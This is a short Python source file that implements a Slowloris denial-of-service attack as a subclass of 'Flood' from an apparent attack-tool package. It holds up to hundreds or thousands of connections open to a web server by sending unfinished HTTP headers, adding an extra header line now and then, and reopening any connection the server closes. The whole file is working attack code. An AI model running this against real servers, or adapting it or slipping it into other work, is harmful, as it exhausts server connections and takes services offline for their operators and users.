"""Heads that never end."""
from collections import deque

from attack.floods import Flood, push


class Slowloris(Flood):
    """A field now and then on each connection. What the server closes is opened again."""
    TITLE = 'slowloris, {held}'
    HELD = 200, 5000

    def rounds(self):
        held = deque()
        while True:
            if len(held) < self.held:
                s = self.dial()
                push(s, b'GET / HTTP/1.1\r\nHost: example.com\r\n')
                held.append(s)
            s = held.popleft()
            if push(s, b'X-Slow: yes\r\n'):
                held.append(s)
            else:
                s.close()
            yield
